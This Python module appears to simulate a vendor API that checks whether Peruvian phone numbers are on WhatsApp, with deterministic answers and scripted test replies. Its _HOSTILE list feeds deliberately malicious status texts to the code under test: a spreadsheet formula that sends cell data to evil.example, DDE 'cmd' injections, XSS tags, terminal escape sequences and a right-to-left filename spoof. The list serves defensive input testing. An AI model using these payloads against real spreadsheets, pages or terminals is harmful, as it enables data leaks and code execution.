"""What the simulated vendor knows: pure functions of a number and a seed, or what a test has scripted instead.

The functions do not depend on the process, the platform or the order of the calls, so two runs can be compared byte for
byte and any output can be verified afterwards.
"""

from __future__ import annotations

import re
from collections import deque
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import date, timedelta
from difflib import get_close_matches
from hashlib import blake2b
from struct import Struct
from typing import Any, Literal, Required, TypeAlias, TypedDict, get_args

COUNTRY_CODE = "+51"
SIMULATED = "TIDfacade00"
"""What the request ids of simulated answers begin with, so that a report can say that they are."""

# Mobiles are 9 and eight digits; fixed lines are eight digits with their area code, and no area
# begins with 0, 2, 3 or 9. ASCII digits only: ``\d`` would let other scripts' digits through.
_NATIONAL = re.compile(r"9[0-9]{8}|[14-8][0-9]{7}")

_SHARE_ON_WHATSAPP = 0.6
_NEWEST_STATUS = date(2026, 10, 31)
_STATUS_DAYS = 3650

_PLAIN = (
    "Disponible",
    "Ocupado",
    "En el trabajo",
    "Solo llamadas urgentes",
    "Hey there! I am using WhatsApp.",
    "Ventas al por mayor y menor, delivery a todo Lima",
    "Dios es amor",
)
_SPANISH = (
    "¡Hola! Estoy usando WhatsApp.",
    "Mañana será otro día",
    "Corazón de niño, alma de león",
    "¿Qué más da? Año nuevo, vida nueva",
    "Panadería «El Ñandú», atención de 6 a. m. a 9 p. m.",
)
_EMOJI = ("🇵🇪 Perú 🎉", "👩‍👩‍👧‍👦 primero", "😴💤", "Pollería 🍗🔥 ☎️", "❤️")
_HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Ver oferta")',
    "=1+1",
    "+51900000000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\x1b[2J\x1b[31mrojo\x1b[0m",
    "\x1b]0;otro título\x07",
    "\x9b31mrojo",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert('x')>",
    "[bold red]marcado[/bold red]",
    "primera línea\nsegunda línea",
    "una\r\notra",
    'coma, "comillas"; punto y coma',
    "\u202etxt.exe",
    "   ",
)


class Result(TypedDict, total=False):
    """The ``result`` object of the vendor's answer, as it goes over the wire."""

    number: Required[str]
    """E.164: ``+51`` and the national number."""
    whatsapp: Required[str]
    """``yes`` or ``no``."""
    status_update: str
    """``YYYYMMDD``; sometimes empty or missing."""
    signature: str
    """The user's status text, sometimes deliberately hostile, sometimes empty or missing."""
    business_user: str
    """``yes`` or ``no``; sometimes missing."""
    avatar: str
    """``yes`` or ``no``; sometimes missing."""


def truth(number: str | int, seed: int = 7) -> Result:
    """Return the whole answer of ``/check/whatsapp_advanced`` for a number.

    ``number`` is a national number (``987654321``, ``14567890``) or its E.164 form. About 60 % of the numbers are on
    WhatsApp. The basic endpoint returns only its ``number`` and ``whatsapp``.

    Raises ``ValueError`` if the vendor would refuse the number.
    """
    national = str(number).removeprefix(COUNTRY_CODE)
    if not is_national(national):
        raise ValueError(
            f"{number!r} is not a Peruvian number: use 9 and eight digits, or a landline with its area code"
        )
    result = Result(number=COUNTRY_CODE + national, whatsapp="no")
    on_whatsapp, has_date, days, kind, pick, business, avatar, details = draws("person", seed, national)
    if on_whatsapp >= _SHARE_ON_WHATSAPP:
        # The vendor's page does not say whether the other fields come with a "no": do it all ways.
        if details < 1 / 3:
            result.update({"status_update": "", "signature": "", "business_user": "no", "avatar": "no"})
        elif details < 2 / 3:
            result.update({"business_user": "no", "avatar": "no"})
        return result
    result["whatsapp"] = "yes"
    if has_date < 0.8:
        result["status_update"] = f"{_NEWEST_STATUS - timedelta(days=int(days * _STATUS_DAYS)):%Y%m%d}"
    elif has_date < 0.9:
        result["status_update"] = ""
    signature = _signature(kind, pick)
    if signature is not None:
        result["signature"] = signature
    if details < 0.95:
        result["business_user"] = "yes" if business < 0.2 else "no"
        result["avatar"] = "yes" if avatar < 0.7 else "no"
    return result


def request_id(number: str | int, seed: int = 7) -> str:
    """Return the ``request_id`` of the OK answer for a national or E.164 number.

    The vendor's is unique per request. The sandbox's is a pure function of number and seed, so that the outputs of two
    runs (one killed and resumed, one undisturbed) can be compared byte for byte. Other replies each have a new id.
    It has the form of the vendor's, and begins in a way that tells a simulated answer from a real one.
    """
    national = str(number).removeprefix(COUNTRY_CODE)
    return f"{SIMULATED}{blake2b(f'request:{seed}:{national}'.encode(), digest_size=12).hexdigest()}"


def is_national(text: str) -> bool:
    """Whether the vendor accepts this as a Peru number without country code."""
    return _NATIONAL.fullmatch(text) is not None


def pending_seconds(national: str, seed: int, share: float, seconds: float) -> float:
    """Return how many seconds the vendor answers PENDING for a number; 0 if it answers at once.

    ``share`` of the numbers are pending, each for 0.8 to 1.2 times ``seconds``.
    """
    chosen, jitter, *_ = draws("pending", seed, national)
    return seconds * (0.8 + 0.4 * jitter) if chosen < share else 0.0


_EIGHT_WORDS = Struct("<8Q").unpack


def draws(purpose: str, seed: int, of: str) -> tuple[float, ...]:
    """Return eight numbers in [0, 1) that depend on nothing but the arguments."""
    digest = blake2b(f"{purpose}:{seed}:{of}".encode()).digest()
    # 53 bits, so that no rounding can bring a draw up to 1.
    return tuple((word >> 11) * 2.0**-53 for word in _EIGHT_WORDS(digest))


def _signature(kind: float, pick: float) -> str | None:
    """Choose a signature, or None where the field is missing."""
    if kind < 0.1:
        return None
    if kind < 0.2:
        return ""
    phrases = _PLAIN if kind < 0.5 else _SPANISH if kind < 0.7 else _EMOJI if kind < 0.85 else _HOSTILE
    return phrases[int(pick * len(phrases))]


Fault: TypeAlias = Literal["reset", "cut", "stall"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Scripted:
    """One reply, spelled out. Fields left out are as the vendor would send them."""

    status: str = "OK"
    """Any text: ``OK``, a status on the vendor's page, or an unknown one."""
    result: Mapping[str, Any] | None = None
    """For OK: fields of the result that differ from the number's default, such as ``{"whatsapp": "yes"}``."""
    reason: str | None = None
    """For other statuses; None: the vendor's own reason for the status."""
    http_status: int | None = None
    """None: the code on the vendor's page, or 400 for a status that is not on it."""
    body: bytes | None = None
    """The whole body, verbatim, instead of everything above except ``http_status`` (200 by default)."""
    content_type: str = "application/json;charset=UTF-8"
    """The ``Content-Type`` header."""
    retry_after: int | None = None
    """Seconds, for the ``Retry-After`` header."""
    delay: float = 0.0
    """Seconds until it is sent."""
    fault: Fault | None = None
    """What happens to the reply on the way: ``reset``, ``cut``, or ``stall`` (it never arrives)."""

    def __post_init__(self) -> None:
        if self.fault not in (None, *get_args(Fault)):
            raise ValueError(f"fault is {self.fault!r}: use {', '.join(get_args(Fault))}")


Script: TypeAlias = str | Mapping[str, Any] | Scripted
"""One reply, for short: ``"yes"``, ``"no"``, ``"checking"``, ``"unavailable"``; a status such as
``"PENDING"``; a fault: ``"reset"``, ``"cut"``, ``"stall"``, ``"bad_gateway"``; a mapping with fields of the
result; or ``Scripted``."""

_VERDICTS = frozenset({"yes", "no", "checking", "unavailable"})
_BAD_GATEWAY = Scripted(
    http_status=502,
    body=b"<html><head><title>502 Bad Gateway</title></head><body><h1>502 Bad Gateway</h1></body></html>\r\n",
    content_type="text/html",
)


_WORDS = (*sorted(_VERDICTS), "reset", "cut", "stall", "bad_gateway")
STATUSES: Mapping[str, tuple[int, str]] = {
    "PENDING": (400, "operation in progress"),
    "INVALID_ARGUMENT": (400, "argument 'number': invalid"),
    "UNAUTHORIZED": (401, "unauthorized or access is denied"),
    "KEY_EXPIRED": (401, "API ID has expired"),
    "NO_PERMISSION": (403, "not authorized to use this API"),
    "OUT_OF_QUOTA": (403, "API calls quota exceeded"),
    "RATE_LIMIT_EXCEEDED": (403, "API request frequency exceeds the limit"),
    "NOT_FOUND": (404, "requested API cannot be found"),
    "INTERNAL_ERROR": (500, "internal server error"),
    # Not on the page; on the vendor's pages for other countries they come with 400.
    "ABNORMAL_BEHAVIOURS_DETECTED": (400, "the same parameters were repeated too often"),
    "QUERY_FAILED": (400, "query failed, please try again"),
    "NOT_HIT": (400, "no data found"),
}
"""The HTTP code and the reason of each status ("4. Error Codes" of the vendor's page)."""


def written_out(reply: Script) -> Scripted:
    """Return the reply for a short form. Raises ``TypeError`` for anything else, ``ValueError`` for a misspelt one."""
    if isinstance(reply, Scripted):
        return reply
    if isinstance(reply, Mapping):
        return Scripted(result=_fields(reply))
    if not isinstance(reply, str):
        raise TypeError(f"{reply!r} is not a reply: use a word, a mapping or Scripted(...)")
    if reply in _VERDICTS:
        return Scripted(result={"whatsapp": reply})
    if reply == "bad_gateway":
        return _BAD_GATEWAY
    if reply in ("reset", "cut", "stall"):
        return Scripted(fault=reply)  # type: ignore[arg-type]  # narrowed by the line above
    if reply.lower() in _WORDS or re.fullmatch("[A-Z][A-Z0-9_]*", reply) is None:
        meant = _did_you_mean(reply, (*_WORDS, *STATUSES))
        raise ValueError(
            f"{reply!r} is not a reply{meant}: use {', '.join(_WORDS)}, or a status in capital letters;"
            " for any other text, Scripted(status=...)"
        )
    return Scripted(status=reply)


def _fields(reply: Mapping[str, Any]) -> dict[str, Any]:
    """Return a copy of the fields of a result, once they are known to be right."""
    known = tuple(Result.__annotations__)
    for name, value in reply.items():
        if name not in known:
            raise ValueError(
                f"a reply has no field {name!r}{_did_you_mean(name, known)}: use {', '.join(known)}; for any other,"
                " Scripted(result={...})"
            )
        if not isinstance(value, str):
            raise ValueError(f"{name} of a reply is {value!r}: AccuAuth sends text, such as 'yes'")
        if (
            value not in _VERDICTS
            and value.lower() in _VERDICTS
            and name in ("whatsapp", "business_user", "avatar")
        ):
            raise ValueError(f"{name} of a reply is {value!r}{_did_you_mean(value, tuple(_VERDICTS))}")
    return dict(reply)


def _did_you_mean(text: object, known: Sequence[str]) -> str:
    lower = {word.lower(): word for word in known}
    close = get_close_matches(str(text).lower(), lower, n=1)
    return f" (did you mean {lower[close[0]]!r}?)" if close else ""


class Scripts:
    """The scripted replies by number. ``strict`` refuses numbers without one."""

    def __init__(self) -> None:
        self.strict = False
        self.unexpected: list[str] = []
        """Numbers that were asked without a scripted reply, while strict; as asked."""
        self._answers: dict[str, Scripted] = {}
        self._next: dict[str, deque[Scripted]] = {}

    def answers(self, replies: Mapping[str | int, Script]) -> None:
        """Give each number one reply for all its calls, in addition to existing ones."""
        self._answers.update({_national(number): written_out(reply) for number, reply in replies.items()})

    def script(self, number: str | int, replies: Iterable[Script]) -> None:
        """Give a number's next calls one reply each; after that, it is answered as without a script."""
        if isinstance(replies, str):
            replies = [replies]
        self._next.setdefault(_national(number), deque()).extend(map(written_out, replies))

    def clear(self) -> None:
        """Forget all scripted replies and unexpected numbers."""
        self._answers.clear()
        self._next.clear()
        self.unexpected.clear()

    def take(self, national: str) -> Scripted | None:
        """Return the scripted reply to the next call for a number; None if it has none."""
        if waiting := self._next.get(national):
            return waiting.popleft()
        reply = self._answers.get(national)
        if reply is None and self.strict and national not in self._next:
            self.unexpected.append(national)
            return Scripted(status="INVALID_ARGUMENT", reason="the test did not expect this number")
        return reply

    def left(self) -> Mapping[str, Sequence[Scripted]]:
        """Return the scripted replies that no call has used yet, by number."""
        return {number: tuple(replies) for number, replies in self._next.items() if replies}


def _national(number: str | int) -> str:
    national = str(number).removeprefix(COUNTRY_CODE)
    if not is_national(national):
        raise ValueError(f"{number!r} is not a Peruvian national number, such as 987654321 or 14567890")
    return national
